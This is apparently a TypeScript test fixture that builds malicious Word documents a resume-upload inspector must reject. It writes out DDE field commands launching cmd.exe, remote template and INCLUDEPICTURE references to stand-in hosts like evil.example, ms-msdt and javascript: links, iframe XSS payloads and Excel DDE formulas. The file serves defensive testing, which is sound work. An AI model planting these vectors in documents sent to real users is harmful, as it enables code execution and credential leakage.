/** Documents of Word that must be refused: a plain one for each rule of the inspection. */
import { Buffer } from 'node:buffer'
import type { ResumeFinding } from '@lanternfield/contract/answer-copy.ts'
import { compoundFile, doc, word2 } from './doc.ts'
import { documentXml, docx, docxParts, relationship, relationships, workbook, zip } from './docx.ts'
import { aDoc, aDocx, type HostileResume, refused } from './resume-example.ts'

const asDoc = refused(aDoc)
const asDocx = refused(aDocx)
const withPart = (
  finding: ResumeFinding,
  name: string,
  path: string,
  content: string | Uint8Array,
) => asDocx(finding, name, { parts: { [path]: content } })

/** The first bytes of a program of Windows, as far as its second signature. */
const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0\x64\x86'),
  Buffer.alloc(500),
])
const HTML = '<html><script>alert(1)</script></html>'
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'

/** Instructions of fields that start a program or fetch a file. */
const instructions = [
  ['active', 'a program', ' DDEAUTO c:\\\\cmd.exe "/k calc.exe" '],
  ['active', 'a program in quotes and small letters', ' "dde" cmd "/c calc" '],
  ['remote', 'a file on a share', ' INCLUDETEXT "\\\\\\\\evil.example\\\\x.doc" '],
  ['remote', 'a picture on a share', ' INCLUDEPICTURE "//evil/x.png" \\d '],
  ['remote', 'a picture on a share, escaped', ' INCLUDEPICTURE "file:///%5C%5Cevil/x.png" '],
  ['remote', 'a picture of another sort of server', ' INCLUDEPICTURE "ldap://evil.example/x" '],
  ['remote', 'a document of a server', ' LINK Word.Document.8 "https://evil.example/x.doc" '],
  ['remote', 'a database on a share', ' DATABASE \\c "Data Source=\\\\evil\\x.mdb" '],
  ['remote', 'a link to a share', ' HYPERLINK \\o "a hint" "\\\\evil.example\\x" '],
  ['active', 'a link to a tool of Windows', ' HYPERLINK "ms-msdt:/id" \\t "_blank" '],
] as const
const field = (instruction: string) => `\x13${instruction}\x14result\x15`
const QUOTED = field(' QUOTE 68 68 69 65 85 84 79 ')

const docFields = [
  ...instructions.map(([finding, name, instruction]) =>
    asDoc(finding, `a field for ${name}`, { text: `Mira ${field(instruction)}` }),
  ),
  asDoc('active', 'a field of two bytes a letter', { text: field(' DDE cmd '), letterBytes: 2 }),
  asDoc('active', 'a field whose letters are numbers', { text: `\x13${QUOTED} cmd \x14\x15` }),
  asDoc('active', 'a field in the result of another', {
    text: `\x13 PAGE \x14${field(' DDE cmd')}\x15`,
  }),
  asDoc('active', 'a field without an end', { text: '\x13 DDE cmd' }),
  asDoc('active', 'a field of Word 2', () => word2(field(' DDE cmd'))),
]

const docs = [
  asDoc('format', 'nothing but HTML', () => Buffer.from(HTML)),
  asDoc('format', 'nothing but RTF', () => Buffer.from('{\\rtf1{\\object\\objemb}}')),
  asDoc('format', 'nothing but a workbook', () => compoundFile({ '/Workbook': 'x'.repeat(5000) })),
  asDoc('format', 'an archive behind it', () => Buffer.concat([doc(), zip({ a: 'b' })])),
  asDoc('broken', 'only its first bytes', () => doc().subarray(0, 300)),
  asDoc('broken', 'only the first bytes of Word 2', () => word2('').subarray(0, 30)),
  asDoc('broken', 'a version that there is not', { version: 0x1234 }),
  asDoc('broken', 'a part missing', { without: ['/1Table'] }),
  asDoc('protected', 'a password', { flags: 0x0100 }),
  asDoc('protected', 'a password of Word 2', () => word2('Mira', 0x0100)),
  asDoc('macros', 'macros', { streams: { '/MACROS/VBA/dir': 'x' } }),
  asDoc('macros', 'the flag of a template of Word 95', { version: 0xa5dc, flags: 1 }),
  asDoc('macros', 'the flag of a template of Word 2', () => word2('Mira', 1)),
  asDoc('active', 'a control', { streams: { '/A/\u0003OCXNAME': 'x' } }),
  asDoc('embedded', 'a program as an object', { streams: { '/A/\u0001Ole10Native': PROGRAM } }),
  asDoc('embedded', 'an object of any sort', { streams: { '/ObjectPool/_12345/\u0001Ole': 'x' } }),
  asDoc('remote', 'a template at an address', { template: 'https://evil.example/x.dot' }),
  asDoc('remote', 'a template on a share', { template: '\\\\10.0.0.1\\a\\normal.dot' }),
]

const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const instruct = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const fieldInXml = (...pieces: readonly string[]) =>
  mark('begin') + pieces.join('') + mark('separate') + mark('end')
const simpleField = (instruction: string) =>
  documentXml(`<w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"/>`)
const withText = (name: string, content: string | Uint8Array) =>
  withPart('active', name, 'word/document.xml', content)
const inUtf16 = (xml: string) => Buffer.from(`\uFEFF${xml.replace('UTF-8', 'UTF-16')}`, 'utf16le')

const docxFields = [
  ...instructions.map(([finding, name, instruction]) =>
    withPart(finding, `a field for ${name}`, 'word/footer1.xml', simpleField(instruction)),
  ),
  withText(
    'a field in pieces',
    documentXml(fieldInXml(instruct(' D'), instruct('&#68;'), instruct('E cmd'))),
  ),
  withText(
    'a field whose letters are numbers',
    documentXml(fieldInXml(fieldInXml(instruct(' QUOTE 68 68 69 ')), instruct(' cmd'))),
  ),
  withText('a field in UTF-16', inUtf16(simpleField('DDE cmd'))),
  withPart('active', 'a field in a part of another name', 'word/a.bin', simpleField('DDE cmd')),
  withPart('active', 'a field in a part called a font', 'word/a.odttf', simpleField('DDE cmd')),
  withPart(
    'active',
    'a field behind blanks',
    'word/header1.dat',
    `${' '.repeat(5000)}<w:hdr><w:fldSimple w:instr="DDE cmd"/></w:hdr>`,
  ),
]

const target = (finding: ResumeFinding, name: string, kind: string, to: string) =>
  asDocx(finding, name, { relationships: relationship(kind, to, 'External') })
const template = (to: string) =>
  withPart(
    'remote',
    `a template at ${to}`,
    'word/_rels/settings.xml.rels',
    relationships(relationship('attachedTemplate', to, 'External')),
  )

const references = [
  ...[
    '&#x68;ttps://evil.example/a.dotm',
    '\\\\evil.example\\a\\a.dotm',
    'file://evil/a/a.dotm',
    'file:///%5C%5C10.0.0.1/normal.dotm',
    'file:////10.0.0.1/Users/normal.dotm',
    'FILE:\\\\evil.example\\normal.dotm',
    'file://localhost//evil.example/normal.dotm',
    '\\/evil.example/normal.dotm',
    '\\\\?\\UNC\\evil.example\\normal.dotm',
    'mk:@MSITStore:evil',
  ].map(template),
  target('remote', 'a picture on a share', 'image', '\\\\evil.example\\x'),
  target('remote', 'an object at an address', 'oleObject', 'mhtml:https://evil.example/x!x'),
  ...['https://evil.example/', '\\\\evil.example\\x'].map((address) =>
    asDocx('remote', `a frame that does not say that it is at ${address}`, {
      relationships: relationship('frame', address),
    }),
  ),
  ...[
    'javascript:alert(1)',
    'ms-msdt:/id%20PCWDiagnostic',
    'ms-appinstaller:?source=https://evil.example/a.appx',
    'ms-word:ofe|u|https://evil.example/a.docm',
    'shell:startup',
    'search:query=a',
    'java&#9;script:alert(1)',
    'MS%2DMSDT:x',
    'data:text/html,x',
    'ldap://evil.example/x',
    'onenote:https://evil.example',
    'a-program-of-its-own:x',
  ].map((address) => target('active', `a link to ${address}`, 'hyperlink', address)),
  ...[
    '\\\\evil.example\\x',
    '//evil.example/x',
    'file:///\\\\evil.example\\x',
    'file://10.0.0.1/x',
    '%5C%5Cevil.example%5Cx',
  ].map((address) => target('remote', `a link to ${address}`, 'hyperlink', address)),
  asDocx('embedded', 'HTML to be included', {
    relationships: relationship('aFChunk', 'chunk.html'),
    parts: { 'word/chunk.html': HTML },
  }),
  withPart(
    'remote',
    'a list in UTF-16',
    'word/_rels/document.xml.rels',
    inUtf16(relationships(relationship('oleObject', 'https://evil.example/x'))),
  ),
  withPart(
    'remote',
    'the data of a mail merge on a share',
    'word/settings.xml',
    '<w:mailMerge><w:udl w:val="Data Source=\\\\evil\\x.mdb"/></w:mailMerge>',
  ),
  withPart(
    'remote',
    'the data of a mail merge at an address',
    'word/settings.xml',
    '<w:mailMerge><w:connectString w:val="Data Source=http://evil.example"/></w:mailMerge>',
  ),
  ...[
    '<script>alert(1)</script>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="java&#115;cript:alert(1)"></iframe>',
    '<iframe src="https://evil.example" onload="alert(1)">',
    '<iframe src="https://evil.example"><script src="//evil.example"></script></iframe>',
    '<object data="https://evil.example"></object>',
  ].map((html) =>
    withPart(
      'active',
      `a film of the page ${html}`,
      'word/a.xml',
      `<wp15:webVideoPr embeddedHtml="${html.replace(/[&<"]/g, (sign) => `&#${sign.charCodeAt(0)};`)}"/>`,
    ),
  ),
]

const parts = [
  withPart('macros', 'macros', 'WORD/VBAPROJECT.BIN', 'x'),
  asDocx('macros', 'macros by their type', {
    types: '<Override PartName="/word/a" ContentType="application/vnd.ms-office.vbaProject"/>',
    parts: { 'word/a': 'x' },
  }),
  asDocx('macros', 'macros by their relationship', {
    relationships: relationship('vbaProject', 'theme.bin'),
  }),
  asDocx('macros', 'the type of a document for macros', {
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  }),
  withPart(
    'macros',
    'macros in the workbook of a chart',
    'word/embeddings/chart.xlsx',
    workbook({ 'xl/vbaProject.bin': 'x' }),
  ),
  ...[
    '<a><ddeLink ddeService="cmd" ddeTopic="/c"/></a>',
    '<a><oleLink progId="cmd"/></a>',
    "<a><f>cmd|'/c calc'!A0</f></a>",
    '<a><definedName>cmd&#124;"/c calc"!A0</definedName></a>',
  ].map((xml) =>
    withPart(
      'active',
      `a program in the workbook of a chart: ${xml}`,
      'word/embeddings/chart.xlsx',
      workbook({ 'xl/a.xml': xml }),
    ),
  ),
  withPart(
    'macros',
    'a sheet of macros in the workbook of a chart',
    'word/embeddings/chart.xlsx',
    workbook({ 'xl/_rels/a.rels': relationships(relationship('xlMacrosheet', 'a.xml')) }),
  ),
  asDocx('embedded', 'an object by its type', {
    types:
      '<Override PartName="/word/a" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    parts: { 'word/a': 'x' },
  }),
  withPart('active', 'a control', 'word/activeX/activeX1.xml', '<x/>'),
  asDocx('active', 'a control by its relationship', {
    relationships: relationship('control', 'a.xml'),
  }),
  withPart('embedded', 'an object', 'word/embeddings/oleObject1.bin', 'x'),
  asDocx('embedded', 'an object by its relationship', {
    relationships: relationship('oleObject', 'a.dat'),
  }),
  withPart(
    'embedded',
    'an object as a picture',
    'word/media/image1.png',
    compoundFile({ '/\u0001Ole10Native': 'x' }),
  ),
  withPart('embedded', 'a program as a picture', 'word/media/image1.png', PROGRAM),
  withPart('embedded', 'a script of Windows', 'word/embeddings/a.vbs', 'x'),
  withPart('embedded', 'an archive', 'word/embeddings/a.xlsx', zip({ 'a.txt': 'x' })),
  withPart(
    'embedded',
    'an archive within a workbook',
    'word/embeddings/a.xlsx',
    workbook({ 'xl/a.xlsx': workbook() }),
  ),
]

/** An archive whose files have the mark of a password. */
function withPasswords(archive: Buffer): Buffer {
  for (const [record, flagsAt] of [
    ['PK\x03\x04', 6],
    ['PK\x01\x02', 8],
  ] as const)
    for (let at = archive.indexOf(record); at !== -1; at = archive.indexOf(record, at + 4))
      archive.writeUInt16LE(1, at + flagsAt)
  return archive
}

const archives = [
  asDocx('format', 'nothing but HTML', () => Buffer.from(HTML)),
  asDocx('format', 'a PDF in its first bytes', () => zip({ '%PDF-1.4': '', ...docxParts() })),
  asDocx('format', 'files of any sort', () => zip({ 'mira.txt': 'x' })),
  asDocx('format', 'nothing but a workbook', () => workbook()),
  asDocx('format', 'the type of a template', { mainType: `${WORD}.template.main+xml` }),
  asDocx('format', 'its text missing', () => {
    const { 'word/document.xml': _, ...others } = docxParts()
    return zip(others)
  }),
  asDocx('format', 'a program before it', () => Buffer.concat([PROGRAM, docx()])),
  asDocx('broken', 'only its first half', () => docx().subarray(0, 700)),
  asDocx('broken', 'bytes behind its end', () => Buffer.concat([docx(), Buffer.from('x')])),
  asDocx('protected', 'a password on its files', () => withPasswords(docx())),
  asDocx('protected', 'a password as Word sets it', () =>
    compoundFile({ '/EncryptionInfo': 'x'.repeat(200), '/EncryptedPackage': 'y'.repeat(5000) }),
  ),
  withPart('broken', 'a file outside its folder', '../../evil.xml', 'x'),
  asDocx('oversized', 'more than it may unpack to', () =>
    docx({ parts: { 'word/a.bmp': Buffer.alloc(70_000_000) } }),
  ),
]

export const hostileDocuments: readonly HostileResume[] = [
  ...docs,
  ...docFields,
  ...archives,
  ...parts,
  ...references,
  ...docxFields,
]
